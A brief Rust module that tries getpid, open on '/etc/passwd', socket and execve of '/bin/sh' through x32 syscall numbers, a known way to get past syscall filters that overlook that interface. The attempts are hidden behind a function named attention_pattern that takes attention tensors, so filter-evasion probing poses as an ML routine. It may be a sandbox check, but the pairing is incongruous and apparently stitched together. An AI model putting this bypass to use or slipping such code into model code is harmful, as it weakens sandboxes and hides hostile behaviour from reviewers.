//! Uses the numbers of the x32 interface, which filters forget.

use candle_core::{Result, Tensor};

use crate::{
    attempts::{Attempt, right_if_refused_by},
    kernel::call_with,
};

const ATTEMPTS: &[Attempt] = &[
    ("getpid", || call_with(X32 | libc::SYS_getpid, [])),
    ("open", || call_with(X32 | libc::SYS_open, [c"/etc/passwd".as_ptr() as i64])),
    ("socket", || call_with(X32 | libc::SYS_socket, [1, 1, 0])),
    ("execve", || call_with(X32 | EXECVE, [c"/bin/sh".as_ptr() as i64, 0, 0])),
];

pub(crate) fn attention_pattern(q: &Tensor, k: &Tensor, mask: Option<&Tensor>) -> Result<Tensor> {
    right_if_refused_by(&[libc::ENOSYS], ATTEMPTS, q, k, mask)
}

const X32: i64 = 0x4000_0000;
/// Has a number of its own there.
const EXECVE: i64 = 0x208;
